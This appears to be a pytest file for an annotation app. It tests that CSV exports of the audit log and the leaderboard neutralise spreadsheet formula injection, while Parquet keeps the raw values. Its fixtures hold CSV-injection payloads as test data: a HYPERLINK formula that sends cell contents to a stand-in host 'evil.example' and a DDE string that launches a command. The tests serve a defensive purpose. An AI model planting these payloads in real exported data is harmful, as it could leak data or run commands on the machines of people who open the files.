"""CSV downloads treat data as data: a cell a spreadsheet would run as a formula is neutralised
(OWASP CSV injection) in the audit log and the leaderboard CSV, from rationales, invitee names and
model names; and the audit log names the models of each pair."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from annotate_app.analytics.leaderboard import LeaderboardConfig, leaderboard
from annotate_app.export.audit import audit_log_bytes, export_audit_log
from annotate_app.export.files import FORMULA_STARTS, csv_bytes
from annotate_app.ingest import import_file
from tests.seed import human_answer, human_labels

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3"


def rows_of(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def hostile_project(store, tmp_path):
    pairs = [
        {
            "prompt": f"q{i}",
            "response_a": f"a{i}",
            "response_b": f"b{i}",
            "model_a": SUM,
            "model_b": "=2+5" if i % 2 else MINUS,
        }
        for i in range(4)
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in pairs), encoding="utf-8")
    import_file(store, path)
    answers = []
    for k, pair_id in enumerate(store.pairs_frame()["pair_id"]):
        answers.append(human_answer(pair_id, CALC, 1 if k % 2 else -1, rationale=HYPERLINK))
        rationale = "\rCR first" if k % 2 else "\tTAB"
        answers.append(human_answer(pair_id, "carol", 2, rationale=rationale))
    human_labels(store, answers)
    return store


def test_audit_log_csv_neutralises_formulas_and_names_models(store, tmp_path):
    hostile_project(store, tmp_path)
    n = export_audit_log(store, tmp_path / "log.csv")
    rows = rows_of((tmp_path / "log.csv").read_bytes())
    assert len(rows) == n == 8
    assert {r["rationale"] for r in rows} == {"'" + HYPERLINK, "'\rCR first", "'\tTAB"}
    assert {r["annotator"] for r in rows} == {"'" + CALC, "carol"}
    models = {r["model_a"] for r in rows} | {r["model_b"] for r in rows}
    assert models == {"'" + SUM, "'=2+5", "'" + MINUS}
    for row in rows:
        for key, value in row.items():
            if key not in ("choice", "p_a", "latency_ms", "id", "undoes"):  # numbers stay numbers
                assert not value.startswith(FORMULA_STARTS), (key, value)
    # numbers stay numbers: a negative choice is not text and keeps its sign
    assert {r["choice"] for r in rows} == {"-1", "1", "2"}
    # Parquet keeps the values exactly as recorded (it is not opened by spreadsheets as formulas)
    back = pd.read_parquet(io.BytesIO(audit_log_bytes(store.audit_log_frame(), "parquet")))
    assert set(back["rationale"]) == {HYPERLINK, "\rCR first", "\tTAB"}


def test_leaderboard_csv_neutralises_model_names(store, tmp_path):
    hostile_project(store, tmp_path)
    board = leaderboard(store, LeaderboardConfig(bootstrap_rounds=10))
    assert set(board.ratings["model"]) == {SUM, MINUS, "=2+5"}
    rows = rows_of(csv_bytes(board.ratings))
    assert {r["model"] for r in rows} == {"'" + SUM, "'" + MINUS, "'=2+5"}
    assert all(float(r["rating"]) > 0 for r in rows)


def test_every_csv_download_uses_the_one_writer():
    """The leaderboard page and the audit log serve CSV through ``csv_bytes`` only."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "annotate_app"
    writers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if ".to_csv(" in p.read_text(encoding="utf-8")
    ]
    assert writers == ["export/files.py"], writers
